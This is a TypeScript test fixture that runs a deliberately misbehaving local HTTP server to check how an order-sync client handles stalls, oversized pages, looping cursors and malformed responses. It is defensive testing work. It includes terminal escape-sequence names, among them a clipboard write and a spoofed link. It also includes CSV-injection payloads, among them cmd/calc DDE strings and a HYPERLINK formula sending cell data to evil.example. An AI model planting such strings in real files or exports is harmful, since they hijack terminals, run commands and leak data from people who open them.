/**
 * A hostile provider for tests: a real HTTP server on 127.0.0.1 that speaks the sandbox orders API
 * (GET /api/v1/orders?cursor=&updated_since=&limit= → {orders, next_cursor, has_more}; see
 * docs/sandbox.md) and misbehaves on demand: stalls, dribbles, huge pages streamed on the fly
 * (never held in memory), non-JSON, oversized fields, looping cursors, and any records you give it
 * (control characters, CSV payloads, overflowing amounts, repeated line numbers).
 *
 * Typical use (see test/hostile.net.e2e.test.ts): link a connection against the real sandbox (its
 * tokens and issuer stay there), then `pointConnectionAt(h, conn, hostile.url)` so the connection's
 * orders API is this server, `hostile.setDefault(...)`, and run `sync` through the binary.
 */
import { createServer, type IncomingMessage, type ServerResponse } from 'node:http';
import type { AddressInfo, Socket } from 'node:net';
import Database from 'better-sqlite3';
import type { E2EHome } from './e2e.js';

export type HostileMode =
  /** Well-behaved paging over `orders` (default page size: the request's `limit`). */
  | { kind: 'orders'; orders: unknown[] }
  /** Accept and read the request, then never send a status line (or send headers and no body). */
  | { kind: 'stall'; after?: 'accept' | 'headers' }
  /** Status and headers at once, then `body` one byte every `intervalMs` (default 1000). */
  | { kind: 'dribble'; body?: string; intervalMs?: number }
  /**
   * A page streamed in 64 KiB chunks: `orders` first, then one order whose first item name is
   * `nameChars` × "x" (20 MB field: 20_000_000; 600 MB page: 600_000_000). With `declareLength`
   * a Content-Length is sent (the client can refuse at once), else chunked encoding.
   */
  | { kind: 'huge'; nameChars: number; orders?: unknown[]; bigOrderId?: string; declareLength?: boolean }
  /** Anything at all: an HTML error page with 200, plain text, truncated JSON. */
  | { kind: 'raw'; status?: number; contentType?: string; body: string }
  /**
   * Cursor games: `next` maps the incoming cursor ('' for the first page) to the `next_cursor`
   * answered; `hasMore` (default true) is sent with it. Each page holds one fresh order
   * (`LOOP-<n>`). A→B→A: {'': 'A', A: 'B', B: 'A'}; never-changing: {'': 'A', A: 'A'};
   * null with has_more: {'': null}. An unknown cursor gets next_cursor null, has_more false.
   */
  | { kind: 'cursors'; next: Record<string, string | null>; hasMore?: boolean };

export interface HostileRequest {
  method: string;
  path: string;
  cursor: string | null;
  limit: number | null;
  authorization: boolean;
}

export interface HostileProvider {
  /** http://127.0.0.1:PORT (no trailing slash): the base URL to point a connection at. */
  readonly url: string;
  /** 127.0.0.1:PORT, as orderlink's messages name it. */
  readonly host: string;
  readonly port: number;
  /** Every request seen, in order. */
  readonly requests: HostileRequest[];
  /** Body bytes written so far (for "stopped reading early" checks). */
  bytesSent(): number;
  /** Sockets currently open (a client that gave up has closed its own). */
  openSockets(): number;
  /** The behaviour for every request from now on (until changed). Applies to every path. */
  setDefault(mode: HostileMode): void;
  /** One-shot behaviours, used (in order) by the next requests before the default. */
  queue(...modes: HostileMode[]): void;
  close(): Promise<void>;
}

/** A valid sandbox order record (docs/sandbox.md); `over` replaces top-level fields. */
export function order(id: string, over: Record<string, unknown> = {}): Record<string, unknown> {
  return {
    id,
    retailer: 'Hostile Mart',
    placed_at: '2026-03-01T10:00:00.000Z',
    updated_at: '2026-03-01T10:00:00.000Z',
    status: 'delivered',
    currency: 'USD',
    amounts: { subtotal: '10.00', tax: '0.80', shipping: '0.00', discount: '0.00', total: '10.80' },
    items: [item(1)],
    ...over,
  };
}

/** A valid item; `over` replaces fields (e.g. { name: CONTROL_NAMES[0] }, { line: 1 } twice). */
export function item(line: number, over: Record<string, unknown> = {}): Record<string, unknown> {
  return { line, name: `Widget ${line}`, sku: `W-${line}`, unit_price: '10.00', quantity: 1, category: 'Home', ...over };
}

/** Largest safe integer with cents: overflows sums once multiplied or added (issue 9, item 6). */
export const OVERFLOW_AMOUNT = '9007199254740991.99';

/** Names that attack a terminal: CSI colour, OSC 52 clipboard write, OSC 8 link, CR overwrite, C1, bidi. */
export const CONTROL_NAMES: readonly string[] = [
  'red \u001b[31mALERT\u001b[0m',
  'clip \u001b]52;c;ZWNobyBwd25lZA==\u0007',
  'link \u001b]8;;https://evil.example/\u001b\\click\u001b]8;;\u001b\\',
  'safe\rOVERWRITTEN',
  'c1 \u009b31m csi',
  'bidi \u202egpj.exe',
  'nul \u0000 byte',
];

/** OWASP CSV-injection payloads (and the negative-number bypass from issue 9, item 14). */
export const CSV_PAYLOADS: readonly string[] = [
  '=1+2',
  '+1+2',
  '-2+3+cmd|\' /C calc\'!A0',
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '\t=1+2',
  '\r=1+2',
  '=HYPERLINK("http://evil.example?x="&A1,"Click")',
];

const CHUNK = 64 * 1024;

export async function startHostileProvider(initial: HostileMode = { kind: 'orders', orders: [] }): Promise<HostileProvider> {
  let fallback = initial;
  const pending: HostileMode[] = [];
  const requests: HostileRequest[] = [];
  const sockets = new Set<Socket>();
  let sent = 0;
  let loopSeq = 0;

  const server = createServer((req, res) => {
    const url = new URL(req.url ?? '/', 'http://127.0.0.1');
    requests.push({
      method: req.method ?? 'GET',
      path: url.pathname,
      cursor: url.searchParams.get('cursor'),
      limit: url.searchParams.has('limit') ? Number(url.searchParams.get('limit')) : null,
      authorization: typeof req.headers.authorization === 'string',
    });
    req.resume(); // read (and drop) any request body
    const mode = pending.shift() ?? fallback;
    serve(mode, url, req, res);
  });
  server.on('connection', (s) => {
    sockets.add(s);
    s.on('close', () => sockets.delete(s));
  });

  const write = (res: ServerResponse, chunk: string | Buffer): boolean => {
    sent += Buffer.byteLength(chunk);
    return res.write(chunk);
  };

  function json(res: ServerResponse, status: number, body: unknown): void {
    const text = JSON.stringify(body);
    res.writeHead(status, { 'content-type': 'application/json', 'content-length': Buffer.byteLength(text) });
    sent += Buffer.byteLength(text);
    res.end(text);
  }

  function serve(mode: HostileMode, url: URL, req: IncomingMessage, res: ServerResponse): void {
    switch (mode.kind) {
      case 'stall':
        if (mode.after === 'headers') {
          res.writeHead(200, { 'content-type': 'application/json' });
          res.flushHeaders();
        }
        return; // never answered; the socket closes when the client gives up (or at close())
      case 'raw': {
        const body = Buffer.from(mode.body);
        res.writeHead(mode.status ?? 200, { 'content-type': mode.contentType ?? 'text/html; charset=utf-8', 'content-length': body.length });
        sent += body.length;
        res.end(body);
        return;
      }
      case 'dribble': {
        const body = Buffer.from(mode.body ?? JSON.stringify({ orders: [], next_cursor: null, has_more: false }));
        res.writeHead(200, { 'content-type': 'application/json', 'content-length': body.length });
        res.flushHeaders();
        let i = 0;
        const t = setInterval(() => {
          if (res.destroyed || i >= body.length) {
            clearInterval(t);
            if (!res.destroyed) res.end();
            return;
          }
          write(res, body.subarray(i, i + 1));
          i++;
        }, mode.intervalMs ?? 1000);
        res.on('close', () => clearInterval(t));
        return;
      }
      case 'huge':
        return streamHuge(mode, res);
      case 'orders': {
        if (url.pathname !== '/api/v1/orders') return json(res, 404, { error: 'not_found' });
        const limit = Math.max(1, Number(url.searchParams.get('limit') ?? 100) || 100);
        const start = Number(url.searchParams.get('cursor') ?? 0) || 0;
        const page = mode.orders.slice(start, start + limit);
        const more = start + limit < mode.orders.length;
        return json(res, 200, { orders: page, next_cursor: more ? String(start + limit) : null, has_more: more });
      }
      case 'cursors': {
        if (url.pathname !== '/api/v1/orders') return json(res, 404, { error: 'not_found' });
        const key = url.searchParams.get('cursor') ?? '';
        const known = Object.prototype.hasOwnProperty.call(mode.next, key);
        loopSeq++;
        return json(res, 200, {
          orders: [order(`LOOP-${loopSeq}`, { updated_at: new Date(Date.UTC(2026, 2, 1) + loopSeq * 1000).toISOString() })],
          next_cursor: known ? mode.next[key] : null,
          has_more: known ? (mode.hasMore ?? true) : false,
        });
      }
    }
  }

  function streamHuge(mode: Extract<HostileMode, { kind: 'huge' }>, res: ServerResponse): void {
    const before = (mode.orders ?? []).map((o) => JSON.stringify(o) + ',').join('');
    const big = JSON.stringify(order(mode.bigOrderId ?? 'HUGE-1', { items: [item(1, { name: '@@NAME@@' })] }));
    const [head, tail] = big.split('@@NAME@@') as [string, string];
    const prefix = `{"orders":[${before}${head}`;
    const suffix = `${tail}],"next_cursor":null,"has_more":false}`;
    const total = Buffer.byteLength(prefix) + mode.nameChars + Buffer.byteLength(suffix);
    res.writeHead(200, { 'content-type': 'application/json', ...(mode.declareLength ? { 'content-length': total } : {}) });
    write(res, prefix);
    const filler = Buffer.alloc(CHUNK, 'x');
    let left = mode.nameChars;
    const pump = () => {
      while (left > 0 && !res.destroyed) {
        const n = Math.min(left, CHUNK);
        left -= n;
        if (!write(res, n === CHUNK ? filler : filler.subarray(0, n))) return void res.once('drain', pump);
      }
      if (!res.destroyed) {
        write(res, suffix);
        res.end();
      }
    };
    pump();
  }

  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const port = (server.address() as AddressInfo).port;
  return {
    url: `http://127.0.0.1:${port}`,
    host: `127.0.0.1:${port}`,
    port,
    requests,
    bytesSent: () => sent,
    openSockets: () => sockets.size,
    setDefault(mode) {
      fallback = mode;
    },
    queue(...modes) {
      pending.push(...modes);
    },
    close: () =>
      new Promise<void>((resolve) => {
        server.close(() => resolve());
        for (const s of sockets) s.destroy();
      }),
  };
}

/**
 * Point a linked connection's API at `url` (the token and its issuer stay with the real sandbox,
 * in the vault), and forget its cursor so the next sync starts at the first page.
 */
export function pointConnectionAt(h: E2EHome, connectionId: number, url: string): void {
  const db = new Database(h.db, { fileMustExist: true });
  try {
    db.prepare('UPDATE connections SET base_url = ?, sync_cursor = NULL WHERE id = ?').run(url, connectionId);
  } finally {
    db.close();
  }
}
